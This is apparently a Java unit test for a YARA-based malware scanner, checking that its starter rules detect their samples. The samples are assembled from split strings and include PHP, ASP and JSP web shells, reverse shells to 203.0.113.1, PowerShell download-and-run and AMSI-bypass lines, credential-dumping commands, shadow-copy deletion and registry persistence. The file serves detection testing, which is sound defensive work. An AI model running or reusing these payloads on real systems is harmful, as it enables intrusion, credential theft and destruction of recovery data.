package io.thor4j.cli;

import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.thor4j.scan.ThorExternals;
import io.thor4j.yara.RuleMatch;
import io.thor4j.yara.YaraMeta;
import io.thor4j.yara.YaraRule;
import io.thor4j.yara.YaraRules;
import io.thor4j.yara.YaraScanner;
import java.io.IOException;
import java.net.URISyntaxException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The samples are put together at run time: no class or source file may look like what the rules describe. */
class StarterRulesTest {
    private static final YaraRules RULES = compile();

    @TempDir
    private Path folder;

    private static YaraRules compile() {
        YaraRules.Builder builder = ThorExternals.defineIn(YaraRules.builder());
        StarterRules.sources().forEach(source -> builder.source(source.namespace(), source.name(), source.text()));
        return builder.build();
    }

    private static List<String> matches(String content, String... externals) {
        YaraScanner scanner = RULES.scanner();
        for (int i = 0; i < externals.length; i += 2) {
            scanner.define(externals[i], externals[i + 1]);
        }
        return scanner.scan(content.getBytes(StandardCharsets.ISO_8859_1)).matches().stream()
                .map(RuleMatch::rule)
                .map(YaraRule::name)
                .toList();
    }

    /** The smallest that is a Windows program to the rules: DOS header, and PE signature where it points. */
    private static String program(String... content) {
        return "MZ" + "\0".repeat(58) + "@\0\0\0" + "PE\0\0" + "\0".repeat(64) + String.join("\0", content) + "\0";
    }

    private static String wide(String text) {
        return text.chars().mapToObj(c -> (char) c + "\0").collect(Collectors.joining());
    }

    private static String eicar() {
        String hex = "58354f2150254041505b345c505a58353428505e2937434329377d2445494341522d"
                + "5354414e444152442d414e544956495255532d544553542d46494c452124482b482a";
        return new String(HexFormat.of().parseHex(hex), StandardCharsets.ISO_8859_1);
    }

    /** For each rule what it must find: content, then pairs of external variables. */
    private static Map<String, List<String[]>> samples() {
        Map<String, List<String[]>> samples = new TreeMap<>();
        webshells(samples);
        credentials(samples);
        scripts(samples);
        names(samples);
        add(samples, "EICAR_Test_File", eicar());
        add(samples, "EICAR_Test_File", eicar() + "\r\n");
        add(samples, "EICAR_Test_Text_Inside", "see: " + eicar());
        add(samples, "Reflective_Loader_Program", program("x", "Reflec" + "tiveLoader"));
        add(samples, "Reflective_Loader_Program", program("x", "_Reflec" + "tiveLoader@4"));
        add(samples, "Remote_Access_Beacon", program("bea" + "con.x64.dll", "Reflec" + "tiveLoader"));
        add(
                samples,
                "Remote_Access_Beacon",
                program("%s (admin)", "%s as %s\\%s: %d", "could not spawn %s (token): %d"));
        add(samples, "Remote_Access_Meterpreter", program("met" + "srv.x64.dll", "Reflec" + "tiveLoader"));
        add(
                samples,
                "Domain_Mapping_Tool_SharpHound",
                program("Sharp" + "Hound", wide("Blood" + "Hound"), "CollectionMethod", "DCOnly"));
        add(samples, "Coin_Miner_Settings", "{\"url\":\"stratum" + "+tcp://pool.example:3333\",\"donate-level\":1}");
        add(samples, "Linux_Preload_File_Written", "echo /tmp/.x/lib.so >> /etc/" + "ld.so.preload");
        add(samples, "Cron_Job_Runs_Download", "*/5 * * * * root cu" + "rl -fsSL http://203.0.113.1/x.sh | sh");
        add(
                samples,
                "Windows_Logon_Screen_Backdoor",
                "reg add \"HKLM\\...\\Ima" + "ge File Execution Options\\sethc.exe\" /v Debug"
                        + "ger /t REG_SZ /d cmd.exe");
        add(
                samples,
                "Windows_Run_Key_Script_Start",
                "re" + "g add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d \"power"
                        + "shell -f c:\\x.ps1\"");
        return samples;
    }

    private static void webshells(Map<String, List<String[]>> samples) {
        add(samples, "Webshell_PHP_Request_To_Execution", "<?php @ev" + "al($_POST['x']); ?>");
        add(samples, "Webshell_PHP_Request_To_Execution", "<? SYS" + "TEM( $_GET[0]);");
        add(samples, "Webshell_PHP_Request_Names_Function", "<?php $_GET['a']" + "($_POST['b']);");
        add(samples, "Webshell_PHP_Execution_Of_Packed_Code", "<?php ev" + "al(gzinflate(base" + "64_decode('eJw')));");
        add(
                samples,
                "Webshell_PHP_Execution_Of_Packed_Code",
                "<?php ev" + "al(base" + "64_decode('" + "Ab3/".repeat(60) + "'));");
        add(samples, "Webshell_PHP_Known_Names", "<?php $t = 'c9" + "9shell'; pass" + "thru($c);");
        add(samples, "Webshell_ASP_Request_To_Execution", "<%ex" + "ecute(req" + "uest(\"x\"))%>");
        add(
                samples,
                "Webshell_ASP_Request_To_Execution",
                "<%@ Page Language=\"Jscript\"%><%ev" + "al(Req" + "uest.Item[\"x\"],\"unsafe\");%>");
        add(
                samples,
                "Webshell_ASPX_Request_To_Command_Line",
                "<%@ Page Language=\"C#\" %><% var p = new Process" + "StartInfo(\"cmd" + ".exe\", \"/c \" + Req"
                        + "uest[\"c\"]); %>");
        add(
                samples,
                "Webshell_JSP_Request_To_Command",
                "<% Runtime.get" + "Runtime().ex" + "ec(req" + "uest.getParameter(\"c\")); %>");
        add(
                samples,
                "Webshell_JSP_Request_To_Command",
                "<% new Process" + "Builder(\"sh\", \"-c\", req" + "uest.getParameter(\"c\")); %>");
        add(
                samples,
                "Webshell_JSP_Loads_Encrypted_Classes",
                "<%! class U extends Class" + "Loader { U g(byte[] b) { return define" + "Class(b); } } %>"
                        + "<% Cipher.getInstance(\"AES\"); req" + "uest.getReader(); %>");
    }

    private static void credentials(Map<String, List<String[]>> samples) {
        add(samples, "Credential_Dumper_Command_Words", "privi" + "lege::debug\nsekur" + "lsa::logon" + "passwords\n");
        add(samples, "Credential_Dumper_Command_Words", wide("lsa" + "dump::dcsync") + wide(" tok" + "en::elevate"));
        add(
                samples,
                "Credential_Dumper_Program",
                program(wide("gentil" + "kiwi"), wide("sekur" + "lsa"), wide("lsa" + "dump")));
        add(samples, "Credential_Collector_Lazagne", "| The La" + "Zagne Project |\n| ! BA" + "NG BANG ! |");
        add(
                samples,
                "Kerberos_Ticket_Tool_Rubeus",
                program("Ru" + "beus", "asrep" + "roast", wide("kerbe" + "roast"), "tgt" + "deleg"));
        add(
                samples,
                "Remote_Secrets_Dump_Tool",
                "Target system boot" + "Key: 0x%s Dum" + "ping Domain Credentials (domain\\uid:rid)");
        add(
                samples,
                "LSASS_Memory_Dump_Command",
                "run" + "dll32.exe C:\\windows\\system32\\com" + "svcs.dll, Mini" + "Dump 624 C:\\x.dmp full");
        add(samples, "LSASS_Memory_Dump_Command", "proc" + "dump64.exe -accepteula -ma lsa" + "ss.exe x.dmp");
        add(
                samples,
                "Windows_Password_Store_Copy_Command",
                "re" + "g save hklm\\sa" + "m s & re" + "g save hklm\\sys" + "tem y");
        add(
                samples,
                "Windows_Password_Store_Copy_Command",
                "copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadow" + "Copy12\\Windows\\NTDS\\nt" + "ds.dit .");
    }

    private static void scripts(Map<String, List<String[]>> samples) {
        add(samples, "Reverse_Shell_Bash_Dev_Tcp", "bash -i >& /dev/" + "tcp/203.0.113.1/4444 0>&1");
        add(samples, "Reverse_Shell_Bash_Dev_Tcp", "exec 5<>/dev/" + "tcp/203.0.113.1/443; sh <&5");
        add(
                samples,
                "Reverse_Shell_Scripted_Socket",
                "import socket,os,pty\ns=soc"
                        + "ket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect((\"203.0.113.1\",4444))\n"
                        + "os.dup" + "2(s.fileno(),0)\npty.spawn(\"/bin/" + "sh\")");
        add(
                samples,
                "PowerShell_Hidden_Encoded_Command",
                "power" + "shell -nop -w hidden -e" + "nc " + "QUJD".repeat(20));
        add(
                samples,
                "PowerShell_Hidden_Encoded_Command",
                wide("power" + "shell.exe -e" + "c JABjAGwAaQBlAG4AdAAg" + "AAAA".repeat(12)));
        add(
                samples,
                "PowerShell_Download_And_Run",
                "power" + "shell -c \"IE" + "X (New-Object Net.WebClient).Download"
                        + "String('http://203.0.113.1/a')\"");
        add(
                samples,
                "PowerShell_Scan_Interface_Bypass",
                "[Ref].Assembly.GetType('System.Management.Autom" + "ation.Amsi" + "Utils').GetField('am" + "siInit"
                        + "Failed').SetValue($null,$true)");
        add(
                samples,
                "Windows_Tool_Fetches_Code",
                "cert" + "util -url" + "cache -split -f http://203.0.113.1/a.exe a.exe");
        add(samples, "Windows_Tool_Fetches_Code", "msh" + "ta http://203.0.113.1/a.hta");
        add(samples, "Windows_Tool_Fetches_Code", "regs" + "vr32 /s /n /u /i:http://203.0.113.1/a.sct scr" + "obj.dll");
        add(samples, "Windows_Tool_Fetches_Code", "bits" + "admin /transfer n http://203.0.113.1/a.exe c:\\a.exe");
        add(
                samples,
                "Recovery_Data_Destruction_Command",
                "vss" + "admin delete shadows /all /quiet & bcd" + "edit /set {default} recoveryenabled No");
    }

    private static void names(Map<String, List<String[]>> samples) {
        add(samples, "Double_Extension_Hides_Program", "x", "filename", "invoice.pdf.exe");
        add(samples, "Double_Extension_Hides_Program", "x", "filename", "Photo.JPG   .scr");
        add(samples, "Blanks_Hide_Extension", "x", "filename", "readme.txt" + " ".repeat(40) + ".js");
        add(samples, "Reversed_Text_Hides_Extension", "x", "filename", "annual\u202efdp.exe");
        add(samples, "Program_With_Extension_Of_Document", program("x"), "extension", ".pdf");
        add(samples, "Linux_Program_With_Extension_Of_Document", "\177ELF\2\1\1", "extension", ".png");
        add(
                samples,
                "System_Process_Name_In_User_Folder",
                program("x"),
                "filename",
                "svchost.exe",
                "filepath",
                "C:\\Users\\a\\AppData\\Local");
        add(samples, "Name_Of_Attack_Tool", "x", "filename", "mimi" + "katz.exe");
        add(samples, "Name_Of_Web_Shell", "x", "filename", "c9" + "9.php");
    }

    private static void add(Map<String, List<String[]>> samples, String rule, String... contentAndExternals) {
        samples.computeIfAbsent(rule, r -> new ArrayList<>()).add(contentAndExternals);
    }

    @Test
    void allCompileWithoutAWord() {
        assertEquals(List.of(), RULES.diagnostics());
        assertEquals(List.of(), RULES.leftOut());
    }

    @Test
    void theListNamesEveryFileOfTheFolder() throws IOException, URISyntaxException {
        Path rules = Path.of(StarterRules.class.getResource("rules/eicar.yar").toURI())
                .getParent();
        try (Stream<Path> files = Files.list(rules)) {
            assertEquals(
                    StarterRules.FILES,
                    files.map(file -> file.getFileName().toString()).sorted().toList());
        }
    }

    @Test
    void everyRuleFindsItsSamples() {
        Map<String, List<String[]>> samples = samples();
        Set<String> reported = RULES.rules().stream()
                .filter(rule -> !rule.isPrivate())
                .map(YaraRule::name)
                .collect(Collectors.toCollection(TreeSet::new));
        assertEquals(reported, samples.keySet());
        assertAll(samples.entrySet().stream()
                .flatMap(entry -> entry.getValue().stream().map(sample -> () -> {
                    String[] externals =
                            List.of(sample).subList(1, sample.length).toArray(new String[0]);
                    assertTrue(
                            matches(sample[0], externals).contains(entry.getKey()),
                            entry.getKey() + " misses " + List.of(sample));
                })));
    }

    @Test
    void everyRuleSaysWhatItIs() {
        for (YaraRule rule : RULES.rules()) {
            Map<String, Object> meta = rule.meta().stream().collect(Collectors.toMap(YaraMeta::key, YaraMeta::value));
            assertEquals("thor4j", meta.get("author"), rule.name());
            assertTrue(meta.get("description") instanceof String text && text.length() > 20, rule.name());
            if (!rule.isPrivate()) {
                assertTrue(meta.get("score") instanceof Long score && score >= 40 && score <= 100, rule.name());
                assertTrue(String.valueOf(meta.get("reference")).startsWith("https://"), rule.name());
            }
        }
    }

    @Test
    void harmlessRelativesAreNotFound() {
        assertEquals(List.of(), matches("<?php echo htmlspecialchars($_GET['x']); system('ls');"));
        assertEquals(List.of(), matches("The EICAR test file is harmless."));
        assertEquals(List.of(), matches("privilege escalation, token bucket, kerberos list"));
        assertEquals(List.of(), matches("x", "filename", "pdf.js", "extension", ".js"));
        assertEquals(List.of(), matches("x", "filename", "archive.tar.gz", "extension", ".gz"));
        assertEquals(List.of(), matches("x", "filename", "report.pdf.lnk", "extension", ".lnk"));
        assertEquals(List.of(), matches(program("x"), "filename", "svchost.exe", "filepath", "C:\\Windows\\System32"));
        assertEquals(List.of(), matches("vss" + "admin list shadows"));
        assertEquals(List.of(), matches("nc -l 4444; /dev/tcp is a feature of bash"));
    }

    /** The rule files themselves, this module's sources and the texts of the JDK must not be found at Warning or above. */
    @Test
    void whatIsKnownToBeCleanIsClean() throws IOException {
        List<String> args = new ArrayList<>(List.of("scan", "-q", "--minimum-level", "warning", "--threads", "0"));
        for (String clean : List.of(
                "src",
                System.getProperty("java.home") + "/conf",
                System.getProperty("java.home") + "/legal",
                "/usr/share/perl",
                "/usr/share/bash-completion",
                "/usr/share/vim",
                "/etc/cron.d",
                "/etc/cron.daily")) {
            if (Files.exists(Path.of(clean))) {
                args.add(clean);
            }
        }
        Path rules = Files.createDirectories(folder.resolve("rules"));
        for (String file : StarterRules.FILES) {
            Files.write(rules.resolve(file), StarterRules.text(file));
        }
        args.add(rules.toString());
        CommandRun run = CommandRun.of(args.toArray(new String[0]));
        assertEquals("", run.out());
        assertEquals(0, run.exitCode());
    }
}
